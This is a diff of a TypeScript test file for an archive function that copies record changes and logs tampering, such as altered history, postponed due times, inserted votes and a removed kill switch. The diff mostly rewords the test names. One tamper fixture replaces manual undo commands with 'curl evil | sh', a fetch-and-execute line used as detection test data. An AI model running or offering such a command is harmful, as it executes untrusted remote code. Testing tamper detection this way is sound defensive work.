@@ -1,4 +1,4 @@
-// P8: what somebody else did to a record is seen in the write that did it, and what was there is kept elsewhere.
+// The archive copies every change, and logs records that others altered (P8).
 import { describe, expect, test } from 'vitest';
 import { archive, type Change } from '../../functions/archive/archive.ts';
 import type { Action } from '../../functions/domain/action.ts';
@@ -20,7 +20,7 @@ async function archived(before: Action | null, after: Action | null, change = {}
   const copies: [string, string][] = [];
   const lines: [string, unknown][] = [];
   const { pk, sk } = item(after ?? before ?? proposed);
-  const told: Change = {
+  const delivered: Change = {
     pk,
     sk,
     sequence: '42',
@@ -34,7 +34,7 @@ async function archived(before: Action | null, after: Action | null, change = {}
       put: async (key, body) => void copies.push([key, body]),
       log: (level, message, { faults }) => lines.push([`${level}: ${message}`, faults]),
     },
-    told,
+    delivered,
   );
   return { copies, lines };
 }
@@ -45,18 +45,22 @@ const faultsOf = async (before: Action | null, after: Action | null) =>
     return faults as string[];
   });
 
-describe('what Countermand writes is copied, and nothing is said', () => {
+describe('changes that Countermand makes', () => {
   test.each([
     ['the first write', null, proposed],
-    ['a step', proposed, executing],
+    ['a transition', proposed, executing],
     [
-      'two steps in one write',
+      'two transitions in one write',
       proposed,
       transition(inForce, 'kept', { at: NOW, by: 'policy', text: 'Kept' }),
     ],
-    ['a note', inForce, withEntry(inForce, { at: NOW, by: 'notify', event: 'told', text: 'Told' })],
-    ['a date for the sweeper', inForce, { ...inForce, attentionAt: NOW.toISOString(), version: 4 }],
-  ])('%s', async (_, before, after) => {
+    [
+      'a history entry',
+      inForce,
+      withEntry(inForce, { at: NOW, by: 'notify', event: 'told', text: 'Told' }),
+    ],
+    ['a time for the sweeper', inForce, { ...inForce, attentionAt: NOW.toISOString(), version: 4 }],
+  ])('copies %s and logs nothing', async (_, before, after) => {
     const next = { ...after, version: (before?.version ?? 0) + 1 };
     const { copies, lines } = await archived(before, next);
     expect(lines).toEqual([]);
@@ -69,18 +73,18 @@ describe('what Countermand writes is copied, and nothing is said', () => {
     });
   });
 
-  test('a field of a newer version', async () => {
-    const newer = { ...inForce, version: 4, seenByNobodyYet: true };
+  test('copies a field of a newer version and logs nothing', async () => {
+    const newer = { ...inForce, version: 4, fieldOfLater: true };
     expect((await archived(inForce, newer)).lines).toEqual([]);
   });
 
-  test('a field that came later than the record', async () => {
+  test('copies a field that is newer than the record and logs nothing', async () => {
     const { reviewAt: _later, ...older } = inForce;
     const next = { ...inForce, version: 4, attentionAt: NOW.toISOString() };
     expect((await archived(older as Action, next)).lines).toEqual([]);
   });
 
-  test('but not the token that the state machine waits with', async () => {
+  test('leaves the task token out of the copy', async () => {
     const approval = { taskToken: 'secret-token', requestedAt: NOW.toISOString() };
     const asked = { ...proposed, approval } as unknown as Action;
     const { copies } = await archived(null, asked);
@@ -88,7 +92,7 @@ describe('what Countermand writes is copied, and nothing is said', () => {
     expect(copies[0]?.[1]).toContain('requestedAt');
   });
 
-  test('also under a name that is too long for S3', async () => {
+  test('shortens a key that is too long for S3, and keeps it unique', async () => {
     const sk = `ACTION#${'ö'.repeat(500)}`;
     const { copies } = await archived(null, proposed, { sk });
     expect(copies).toHaveLength(1);
@@ -98,13 +102,13 @@ describe('what Countermand writes is copied, and nothing is said', () => {
     );
   });
 
-  test('and what has no history is not copied', async () => {
+  test('does not copy an item without a history', async () => {
     const { copies, lines } = await archived(null, proposed, { sk: 'ALERT#a' });
     expect([copies, lines]).toEqual([[], []]);
   });
 });
 
-describe('P8: it is an error in the log, and copied all the same, when', () => {
+describe('changes that anyone else makes', () => {
   const next = (change: object): Action => ({
     ...inForce,
     version: inForce.version + 1,
@@ -126,13 +130,13 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
       'its history is broken: entry 1 was altered',
     ],
     [
-      'the last entry is cut off',
+      'the last entry is removed',
       inForce,
       next({ history: [first, second] }),
       'what its history said before is gone',
     ],
     [
-      'the history is told anew, whole',
+      'the entire history is rewritten',
       inForce,
       next({
         history: append(inForce.actionId, [], {
@@ -145,19 +149,19 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
       'what its history said before is gone',
     ],
     [
-      'a state has no entry',
+      'a new state has no entry',
       executing,
       { ...executing, status: 'in-force', version: 3 },
       'status was changed without an entry',
     ],
     [
-      'a state comes by no legal step',
+      'a transition is not allowed',
       proposed,
       { ...withEntry(proposed, { at: NOW, by: 'x', event: 'kept', text: '' }), status: 'kept' },
       'it became kept by no legal step',
     ],
     [
-      'a state is not that of its entry',
+      'a state differs from its entry',
       executing,
       {
         ...withEntry(executing, { at: NOW, by: 'x', event: 'in-force', text: '' }),
@@ -166,43 +170,43 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
       'no entry says that it is reversing',
     ],
     [
-      'it is about something else',
+      'the target no longer matches the digest',
       inForce,
       next({ target: { ...inForce.target, value: '198.51.100.1' } }),
       'it is not what its digest says',
     ],
     [
-      'the state to go back to is changed',
+      'the before-state is changed',
       executing,
       { ...executing, before: 'theirs', version: 3 },
       'before was changed without an entry',
     ],
     [
-      'its end is put off',
+      'the due time is postponed',
       inForce,
       next({ dueAt: '2099-01-01T00:00:00.000Z' }),
       'dueAt was changed without an entry',
     ],
     [
-      'the sweeper is kept from it',
+      'the time for the sweeper is removed',
       inForce,
       next({ attentionAt: null }),
       'it is in-force, and nobody looks at it any more',
     ],
     [
-      'the sweeper is put off',
+      'the time for the sweeper is postponed',
       inForce,
       next({ attentionAt: '2099-01-01T00:00:00.000Z' }),
       'it is in-force, and nobody looks at it before 2099',
     ],
     [
-      'one person is to be enough',
+      'fewer approvals are required',
       asked,
       { ...asked, approval: { ...asked.approval!, required: 1 }, version: asked.version + 1 },
       'approval was changed without an entry',
     ],
     [
-      'a vote is put in',
+      'a vote is inserted',
       asked,
       {
         ...asked,
@@ -215,42 +219,42 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
       'approval was changed without an entry',
     ],
     [
-      'somebody else’s judgement is put in',
+      'a judgement is inserted',
       inForce,
       next({ judgement: { verdict: 'right', by: 'x', at: NOW.toISOString(), note: '' } }),
       'judgement was changed without an entry',
     ],
     [
-      'another function is to undo it',
+      'the scope is changed',
       inForce,
       next({ scope: 'mail' }),
       'scope was changed without an entry',
     ],
     [
-      'the commands to undo it by hand are others',
+      'the manual undo commands are changed',
       inForce,
       next({ description: { ...described, manualUndo: ['curl evil | sh'] } }),
       'description was changed without an entry',
     ],
-    ['an earlier version is put back', inForce, executing, 'its version went from 3 to 2'],
+    ['an earlier version is restored', inForce, executing, 'its version went from 3 to 2'],
     [
-      'its author is another',
+      'the incident ID is changed',
       inForce,
       next({ incidentId: 'inc-ffffffffffffffff' }),
       'incidentId was changed',
     ],
     [
-      'nobody can read it',
+      'the record becomes unreadable',
       inForce,
       { ...inForce, history: 'none' } as unknown as Action,
       'it cannot be read',
     ],
-  ])('%s', async (_, before, after, fault) => {
+  ])('P8: logs and copies a change in which %s', async (_, before, after, fault) => {
     expect(await faultsOf(before, after)).toContainEqual(expect.stringContaining(fault));
     expect((await archived(before, after)).copies).toHaveLength(1);
   });
 
-  test('the index does not list what the record says is due', async () => {
+  test('P8: logs an item that the index does not list as its record says', async () => {
     const { open: _open, ...hidden } = item(next({})) as ReturnType<typeof item> & { open: string };
     const { lines } = await archived(inForce, next({}), { after: hidden });
     expect(lines).toEqual([
@@ -258,7 +262,7 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
     ]);
   });
 
-  test('an alert is taken out of its incident, but not when it came again', async () => {
+  test('P8: logs an alert that is removed from its incident, and no repeat of one', async () => {
     const incident = incidentWith();
     const about = (record: typeof incident) => ({
       pk: `INCIDENT#${record.incidentId}`,
@@ -278,7 +282,7 @@ describe('P8: it is an error in the log, and copied all the same, when', () => {
     ]);
   });
 
-  test('a switch is removed, which then stands at run', async () => {
+  test('P8: logs the removal of a kill switch, which would set it to run', async () => {
     const change = { pk: 'SWITCH#1', sk: 'SWITCH', before: { mode: 'halt' }, after: null };
     expect((await archived(null, null, change)).lines).toEqual([
       ['error: record altered', ['it was removed']],
